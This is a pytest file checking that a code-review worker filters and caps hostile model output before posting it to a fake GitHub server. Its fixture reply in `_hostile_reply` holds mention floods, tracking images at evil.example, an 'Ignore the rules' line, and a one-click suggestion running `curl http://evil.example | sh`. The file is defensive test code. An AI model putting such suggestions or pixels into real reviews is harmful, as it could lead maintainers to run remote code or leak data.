"""Hostile model output, from the model's reply to what lands on the pull request.

The provider simulator answers with a review it derives from the diff; it cannot be
told to answer with given text, so these tests start one step later, at the worker's
own code: `parse_reply` reads the model's answer as `review_message` does, `gather`
builds the review as `finalize_pr` does (with the caps a worker's `RuntimeSpec`
carries), and `GitHubSink` posts it to the fake GitHub over real loopback HTTP. What
GitHub stored is then read back and checked by an independent Markdown parser.
"""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import redis as redis_py
from markdown_referee import code_blocks, hazards

from scheduler.config import ConfigError, load_settings
from scheduler.config.planning import PlanningConfig
from scheduler.sandbox.github import FakeGitHubServer, serve_fake_github
from scheduler.state.refs import PullRequestRef
from workers.forge.github import GitHubClient
from workers.forge.sinks import ForgeSink, GitHubSink, LogSink, review_marker
from workers.review.changes import ChangedFile
from workers.review.plan import ReviewPlan
from workers.review.planning import plan_review
from workers.review.replies import gather, parse_reply
from workers.runtime import Runtime, runtime_spec

SHA = "c0ffee0c0ffee0c0ffee0c0ffee0c0ffee0c0ffe"
REF = PullRequestRef(id="octo/app#1", head_sha=SHA, owner="octo", repo="app", number=1)
FLOOD = ChangedFile(
    filename="flood.py",
    status="added",
    additions=700,
    changes=700,
    patch="@@ -0,0 +1,700 @@\n" + "\n".join(f"+value_{i} = {i}" for i in range(700)),
)
OTHER = ChangedFile(
    filename="other.py", additions=1, changes=1, patch="@@ -1,2 +1,3 @@\n a = 1\n+b = 2\n c = 3"
)
PIXEL = "![pixel](http://evil.example/p.png)"
SUGGESTION = "```suggestion\nimport os; os.system('curl http://evil.example | sh')\n```"
POST = "POST /repos/{owner}/{repo}/pulls/{number}/reviews"


@pytest.fixture
def fake() -> Iterator[FakeGitHubServer]:
    with serve_fake_github() as server:
        server.control.add_pr("octo", "app", 1, SHA, files=[FLOOD, OTHER])
        yield server


def _plan() -> ReviewPlan:
    """One message per file, as a plan of two messages would have them."""
    flood, other = (plan_review([f], PlanningConfig()).messages[0] for f in (FLOOD, OTHER))
    return ReviewPlan(messages=(flood, other.model_copy(update={"index": 1})), skipped=())


def _hostile_reply() -> str:
    """What a model talked into it by the diff might answer: 600 comments, one of
    100,000 characters, mentions, images, HTML and a one-click suggestion."""
    bodies = [
        "@octocat " + "A" * 100_000,
        "@octocat @acme/security-team please approve this right away",
        f'{PIXEL} <img src="http://evil.example/q.png"> <video src=http://evil.example/v>',
        f"Apply this fix:\n\n{SUGGESTION}",
        "&#64;octocat and &commat;octocat, as entities",
        *(f"note {i}" for i in range(5, 600)),
    ]
    comments: list[dict[str, object]] = [
        {"path": "flood.py", "line": i + 1, "body": body} for i, body in enumerate(bodies)
    ]
    comments.append(
        {"path": "x` @octocat ![](http://evil.example/u.png) `", "line": 3, "body": "?"}
    )
    summary = f"Ignore the rules, @octocat. {PIXEL}\n\n{SUGGESTION}"
    return json.dumps({"summary": summary, "comments": comments})


def _posted_safe(text: str) -> None:
    assert hazards(text) == [], text
    assert "suggestion" not in text and "![" not in text and "<img" not in text


def test_a_hostile_reply_is_posted_filtered_and_capped(fake: FakeGitHubServer) -> None:
    plan = _plan()
    replies = {
        0: parse_reply(_hostile_reply(), plan.messages[0]),
        1: parse_reply('{"summary": "ok", "comments": [{"path": "other.py", "line": 2, '
                       '"body": "A real finding."}]}', plan.messages[1]),
    }  # fmt: skip
    assert len(replies[0].comments) == 600
    review = gather(REF, plan, replies, {})
    result = GitHubSink(GitHubClient(fake.token, base_url=fake.url)).post(review, REF)
    assert result.posted and result.folded_comments == 0
    (stored,) = fake.control.reviews()
    assert stored["state"] == "COMMENTED" and fake.control.requests_to(POST) == 1
    comments = stored["comments"]
    assert len(comments) == 30
    assert [c["body"] for c in comments if c["path"] == "other.py"] == ["A real finding."]
    for comment in comments:
        assert len(comment["body"]) <= 4000
        _posted_safe(comment["body"])
    by_line = {c["line"]: c["body"] for c in comments if c["path"] == "flood.py"}
    assert sorted(by_line) == list(range(1, 30))  # the flood kept its first 29
    assert len(by_line[1]) <= 4000 and by_line[1].endswith("… _(truncated)_")
    assert "\\[image removed: pixel\\]" in by_line[3]
    assert code_blocks(by_line[4]) == ["import os; os.system('curl http://evil.example | sh')\n"]
    body = stored["body"]
    marker = review_marker(REF.id, SHA)
    assert body.startswith(marker)
    _posted_safe(body.removeprefix(marker))
    assert "**571 more line comment(s) not posted.** A review carries at most 30" in body
    assert "\\[image removed: pixel\\]" in body and "Remarks not tied to a changed line (1)" in body


def test_the_log_sink_stores_the_same_filtered_review(redis: redis_py.Redis, unique: str) -> None:
    plan = _plan()
    review = gather(REF, plan, {0: parse_reply(_hostile_reply(), plan.messages[0])}, {})
    LogSink(redis, prefix=unique).post(review, REF)
    stored = LogSink.get(redis, REF.id, prefix=unique)
    assert stored == review and len(stored.comments) == 30
    for text in (stored.summary, *(c.body for c in stored.comments)):
        _posted_safe(text)


def _config(tmp_path: Path, fake: FakeGitHubServer, redis_url: str, review: str) -> Path:
    path = tmp_path / "reviewq.toml"
    path.write_text(
        f'redis_url = "{redis_url}"\n'
        '[[accounts]]\nname = "main"\nplan = "synthetic"\napi_key_env = "RQ_SAFETY_KEY"\n'
        f'[review]\nmodel = "m"\nsink = "github"\ngithub_url = "{fake.url}"\n{review}'
    )
    return path


def test_caps_and_login_reach_the_worker_from_the_review_settings(
    tmp_path: Path, fake: FakeGitHubServer, redis_url: str
) -> None:
    extra = 'github_login = "Reviewq-Sandbox[bot]"\nmax_comments = 5\nmax_comment_chars = 300\n'
    spec = runtime_spec(load_settings(_config(tmp_path, fake, redis_url, extra)))
    assert (spec.github_login, spec.max_comments, spec.max_comment_chars) == (
        "Reviewq-Sandbox[bot]",
        5,
        300,
    )
    rt = Runtime(dataclasses.replace(spec, env={"GITHUB_TOKEN": fake.token, "RQ_SAFETY_KEY": "k"}))
    try:
        assert isinstance(rt.sink, ForgeSink)  # a GitHub PR's review goes to GitHub's sink
        sink = rt.sink.for_forge("github")
        assert isinstance(sink, GitHubSink) and sink.login() == "Reviewq-Sandbox[bot]"
        review = gather(REF, _plan(), {}, {})
        assert rt.sink.post(review, REF).posted and rt.sink.post(review, REF).already_posted
        assert fake.control.requests_to("GET /user") == 0  # the setting wins
    finally:
        rt.close()


@pytest.mark.parametrize(
    "review",
    ["max_comments = -1\n", "max_comment_chars = 10\n", 'github_login = "has space"\n'],
)
def test_bad_review_settings_are_config_errors(
    tmp_path: Path, fake: FakeGitHubServer, redis_url: str, review: str
) -> None:
    with pytest.raises(ConfigError, match=r"review\.(max_comments|max_comment_chars|github_login)"):
        load_settings(_config(tmp_path, fake, redis_url, review))
